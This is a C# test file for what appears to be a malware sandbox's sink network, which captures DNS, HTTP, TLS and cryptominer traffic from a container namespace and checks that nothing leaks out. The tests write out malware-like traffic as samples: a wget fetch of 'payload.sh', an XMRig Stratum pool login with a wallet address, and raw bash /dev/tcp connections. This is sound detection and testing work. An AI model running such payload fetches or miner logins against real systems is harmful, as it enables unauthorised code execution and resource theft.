using System.Text.Json;
using Drydock.Sandbox.Network;
using Drydock.Tests.Fixtures;

namespace Drydock.Tests.Sandbox.Network;

/// <summary>The sink network with real namespaces, veth, iptables and busybox clients in the container namespace.</summary>
[Collection(SinkNetworkCollection.Name)]
public sealed class SinkNetworkTests
{
    private const string StratumLogin =
        """{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","pass":"x","agent":"XMRig/6.21.0"}}""";

    [SinkNetworkFact]
    public async Task Logs_dns_http_stratum_and_tls_from_the_container()
    {
        var file = Path.GetTempFileName();
        await File.WriteAllTextAsync(file, "#!/bin/sh\necho fetched\n", CancellationToken.None);
        var options = new SinkNetworkOptions
        {
            HttpFiles = new Dictionary<string, string> { ["/payload.sh"] = file },
            ConnectionTimeout = TimeSpan.FromSeconds(2),
        };
        await using var sink = await SinkNetwork.CreateAsync(options, CancellationToken.None);
        var resolv = Path.Combine("/etc/netns", sink.ContainerNamespaceName);
        Directory.CreateDirectory(resolv);
        try
        {
            await File.WriteAllTextAsync(Path.Combine(resolv, "resolv.conf"), $"nameserver {sink.SinkAddress}\n", CancellationToken.None);
            var ns = sink.ContainerNamespaceName;

            var lookup = await NetnsTool.ExecAsync(ns, "busybox", "nslookup", "pool.example.invalid");
            Assert.Contains("10.200.0.1", lookup.Stdout);
            // A resolver the image hard-codes is answered too, from the address asked.
            var hardCoded = await NetnsTool.ExecAsync(ns, "busybox", "nslookup", "-type=a", "other.example.invalid", "8.8.8.8");
            Assert.Contains("10.200.0.1", hardCoded.Stdout);

            var missing = await NetnsTool.ExecAsync(ns, "busybox", "wget", "-U", "drydock-test/1", "-O", "-", "http://any.example/x.sh");
            Assert.NotEqual(0, missing.ExitCode);
            Assert.Contains("404", missing.Stderr);
            var served = await NetnsTool.ExecAsync(ns, "busybox", "wget", "-O", "-", "http://downloads.example/payload.sh?v=1");
            Assert.Equal(0, served.ExitCode);
            Assert.Equal("#!/bin/sh\necho fetched\n", served.Stdout);

            var pool = await NetnsTool.ExecWithInputAsync(ns, StratumLogin + "\n", "busybox", "nc", "203.0.113.9", "3333");
            Assert.Contains("\"status\":\"OK\"", pool.Stdout);

            if (File.Exists("/usr/bin/openssl"))
            {
                await NetnsTool.ExecWithInputAsync(ns, string.Empty, "openssl", "s_client", "-servername", "foo.invalid", "-connect", "198.51.100.7:443");
            }

            var seen = sink.Observations();
            Assert.Contains(seen.DnsQueries, q => q is { Name: "pool.example.invalid", Type: "A", Answer: "10.200.0.1", Transport: "udp" });
            Assert.Contains(seen.DnsQueries, q => q is { Name: "other.example.invalid", Type: "A", Answer: "10.200.0.1" });
            Assert.Contains(seen.DnsQueries, q => q is { Name: "any.example", Type: "A" });
            Assert.Contains(seen.HttpRequests, r => r is { Method: "GET", Host: "any.example", Path: "/x.sh", UserAgent: "drydock-test/1", Status: 404, Address: "10.200.0.1", Port: 80 });
            Assert.Contains(seen.HttpRequests, r => r is { Host: "downloads.example", Path: "/payload.sh?v=1", Status: 200 });
            var login = Assert.Single(seen.StratumLogins);
            Assert.Equal(("203.0.113.9", 3333, "login", "XMRig/6.21.0"), (login.Address, login.Port, login.Method, login.Agent));
            Assert.StartsWith("44AFFq5kSiGBoZ4", login.Login);
            Assert.Contains(seen.Connections, c => c is { Protocol: "tcp", Address: "203.0.113.9", Port: 3333 });
            Assert.Equal(2, seen.Connections.Count(c => c is { Protocol: "tcp", Address: "10.200.0.1", Port: 80 }));
            if (File.Exists("/usr/bin/openssl"))
            {
                Assert.Contains(seen.TlsClientHellos, t => t is { Address: "198.51.100.7", Port: 443, ServerName: "foo.invalid" });
            }

            Assert.Equal(0, seen.Dropped);
            Assert.True(seen.Connections.Zip(seen.Connections.Skip(1)).All(p => p.First.TimeMs <= p.Second.TimeMs));
            var json = JsonSerializer.Serialize(seen, NetworkObservationsJsonContext.Default.NetworkObservations);
            Assert.Contains("\"stratumLogins\"", json);
            Assert.Contains("\"userAgent\": \"drydock-test/1\"", json);
        }
        finally
        {
            Directory.Delete(resolv, recursive: true);
            File.Delete(file);
        }
    }

    [SinkNetworkFact]
    public async Task Logs_udp_datagrams_by_their_original_destination_and_dns_over_tcp()
    {
        await using var sink = await SinkNetwork.CreateAsync(new SinkNetworkOptions { ConnectionTimeout = TimeSpan.FromSeconds(2) }, CancellationToken.None);
        var ns = sink.ContainerNamespaceName;
        await NetnsTool.ExecAsync(ns, "bash", "-c", "echo hello-udp > /dev/udp/192.0.2.44/5353");
        await NetnsTool.ExecAsync(ns, "busybox", "nslookup", "-type=aaaa", "six.example.invalid", "9.9.9.9");
        // dig-like TCP query built by hand: length, id 0x1234, RD, one question for tcp.example.invalid A IN.
        await NetnsTool.ExecAsync(ns, "bash", "-c",
            @"exec 3<>/dev/tcp/1.1.1.1/53; printf '\x00\x25\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03tcp\x07example\x07invalid\x00\x00\x01\x00\x01' >&3; timeout 2 head -c 2 <&3 >/dev/null");
        await WaitForAsync(() => sink.Observations().Connections.Any(c => c.Protocol == "udp"));

        var seen = sink.Observations();
        Assert.Contains(seen.Connections, c => c is { Protocol: "udp", Address: "192.0.2.44", Port: 5353 });
        Assert.Contains(seen.RawPayloads, r => r is { Protocol: "udp", Address: "192.0.2.44", Port: 5353, Preview: "hello-udp\\x0a" });
        Assert.Contains(seen.DnsQueries, q => q is { Name: "six.example.invalid", Type: "AAAA", Answer: null });
        Assert.Contains(seen.DnsQueries, q => q is { Name: "tcp.example.invalid", Type: "A", Answer: "10.200.0.1", Transport: "tcp" });
        Assert.Contains(seen.Connections, c => c is { Protocol: "tcp", Address: "1.1.1.1", Port: 53 });
    }

    [SinkNetworkFact]
    public async Task Nothing_leaves_the_sink()
    {
        var id = Guid.NewGuid().ToString("N")[..8];
        var outside = "ddout-" + id;
        var hostLink = "ddo" + id + "h";
        // A /30 of TEST-NET-1 of its own, so that two runs on one host do not collide.
        var block = 4 * Random.Shared.Next(64);
        var hostAddress = $"192.0.2.{block + 1}";
        var outsideAddress = $"192.0.2.{block + 2}";
        await ProcessRunner.RunCheckedAsync("ip", "netns", "add", outside);
        try
        {
            await ProcessRunner.RunCheckedAsync("ip", "link", "add", hostLink, "type", "veth", "peer", "name", "ddo" + id + "o", "netns", outside);
            await ProcessRunner.RunCheckedAsync("ip", "addr", "add", hostAddress + "/30", "dev", hostLink);
            await ProcessRunner.RunCheckedAsync("ip", "link", "set", hostLink, "up");
            await ProcessRunner.RunCheckedAsync("ip", "-n", outside, "addr", "add", outsideAddress + "/30", "dev", "ddo" + id + "o");
            await ProcessRunner.RunCheckedAsync("ip", "-n", outside, "link", "set", "ddo" + id + "o", "up");
            await ProcessRunner.RunCheckedAsync("ip", "-n", outside, "link", "set", "lo", "up");

            var hostNamespace = new FileInfo("/proc/self/ns/net").LinkTarget;
            await using var sink = await SinkNetwork.CreateAsync(new SinkNetworkOptions { ConnectionTimeout = TimeSpan.FromSeconds(2) }, CancellationToken.None);
            // The outside listener is reachable from the host ...
            var listener = NetnsTool.ExecAsync(outside, "timeout", "25", "busybox", "nc", "-l", "-p", "8080");
            await Task.Delay(500, CancellationToken.None);
            // ... but the container's connection, to that address and to the host's own, ends in the sink.
            await NetnsTool.ExecWithInputAsync(sink.ContainerNamespaceName, "leak-out\n", "busybox", "nc", outsideAddress, "8080");
            await NetnsTool.ExecWithInputAsync(sink.ContainerNamespaceName, "leak-host\n", "busybox", "nc", hostAddress, "8080");
            // The control: the host itself does reach the listener (again until it answers: on a loaded machine the listener may
            // not be up yet, and a refused attempt uses nothing up).
            var deadline = DateTime.UtcNow.AddSeconds(20);
            while ((await ProcessRunner.RunAsync("busybox", ["nc", outsideAddress, "8080"], TimeSpan.FromSeconds(20), stdin: "control\n")).ExitCode != 0
                && DateTime.UtcNow < deadline)
            {
                await Task.Delay(200, CancellationToken.None);
            }

            var heard = await listener;
            Assert.Contains("control", heard.Stdout);
            Assert.DoesNotContain("leak", heard.Stdout);

            var seen = sink.Observations();
            Assert.Contains(seen.Connections, c => c.Protocol == "tcp" && c.Address == outsideAddress && c.Port == 8080);
            Assert.Contains(seen.Connections, c => c.Protocol == "tcp" && c.Address == hostAddress && c.Port == 8080);
            Assert.Contains(seen.RawPayloads, r => r.Address == outsideAddress && r.Preview == "leak-out\\x0a");

            var links = await ProcessRunner.RunCheckedAsync("ip", "-n", sink.SinkNamespaceName, "-o", "link", "show");
            var names = links.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split(':')[1].Trim().Split('@')[0]).Order(StringComparer.Ordinal).ToList();
            Assert.Equal(new[] { sink.SinkLink, "lo" }.Order(StringComparer.Ordinal), names);
            var forward = await NetnsTool.ExecAsync(sink.SinkNamespaceName, "sysctl", "-n", "net.ipv4.ip_forward");
            Assert.Equal("0", forward.Stdout.Trim());
            var routes = await ProcessRunner.RunCheckedAsync("ip", "-n", sink.SinkNamespaceName, "route", "show");
            Assert.DoesNotContain("default", routes.Stdout);
            foreach (var ns in new[] { sink.SinkNamespaceName, sink.ContainerNamespaceName })
            {
                var ipv6 = await NetnsTool.ExecAsync(ns, "sysctl", "-n", "net.ipv6.conf.all.disable_ipv6");
                Assert.Equal("1", ipv6.Stdout.Trim());
            }

            // The namespace switch happened on a thread of its own: this process is still in the host's namespace.
            Assert.Equal(hostNamespace, new FileInfo("/proc/self/ns/net").LinkTarget);
        }
        finally
        {
            await ProcessRunner.RunAsync("ip", ["link", "delete", hostLink]);
            await ProcessRunner.RunAsync("ip", ["netns", "delete", outside]);
        }
    }

    [SinkNetworkFact]
    public async Task A_connection_loop_is_counted_past_the_event_limit()
    {
        await using var sink = await SinkNetwork.CreateAsync(new SinkNetworkOptions { MaxEvents = 50 }, CancellationToken.None);
        await NetnsTool.ExecAsync(sink.ContainerNamespaceName, "bash", "-c",
            "for i in $(seq 1 200); do (exec 3<>/dev/tcp/192.0.2.$((i % 250 + 1))/$((1000 + i))) 2>/dev/null; done");
        await WaitForAsync(() => sink.Observations() is var o && o.Connections.Count + o.Dropped >= 200);

        var seen = sink.Observations();
        Assert.Equal(50, seen.Connections.Count);
        Assert.Equal(150, seen.Dropped);
        Assert.Equal(Enumerable.Range(1001, 50), seen.Connections.Select(c => c.Port).Order());
    }

    [SinkNetworkFact]
    public async Task Disposal_deletes_both_namespaces_and_is_idempotent()
    {
        var sink = await SinkNetwork.CreateAsync(new SinkNetworkOptions(), CancellationToken.None);
        var during = await NetnsTool.ListAsync();
        Assert.Contains(sink.SinkNamespaceName, during);
        Assert.Contains(sink.ContainerNamespaceName, during);

        await sink.DisposeAsync();
        await sink.DisposeAsync();

        var after = await NetnsTool.ListAsync();
        Assert.DoesNotContain(sink.SinkNamespaceName, after);
        Assert.DoesNotContain(sink.ContainerNamespaceName, after);
        Assert.False(File.Exists(sink.ContainerNamespacePath));
    }

    [SinkNetworkFact]
    public async Task A_failure_halfway_leaves_no_namespace_behind()
    {
        foreach (var step in new[] { "forwarding", "veth", "iptables", "sockets" })
        {
            // Named in advance, so that only this attempt's namespaces are looked for (other runs may have theirs).
            var id = Convert.ToHexStringLower(System.Security.Cryptography.RandomNumberGenerator.GetBytes(4));
            var error = await Assert.ThrowsAsync<SinkNetworkException>(
                () => SinkNetwork.CreateAsync(new SinkNetworkOptions { FailAtStep = step, Id = id }, CancellationToken.None));
            Assert.Contains(step, error.Message);
            var (sinkName, containerName) = SinkNetwork.NamespaceNames(id);
            var after = await NetnsTool.ListAsync();
            Assert.DoesNotContain(sinkName, after);
            Assert.DoesNotContain(containerName, after);
        }
    }

    private static async Task WaitForAsync(Func<bool> condition)
    {
        for (var i = 0; i < 50 && !condition(); i++)
        {
            await Task.Delay(100, CancellationToken.None);
        }
    }
}
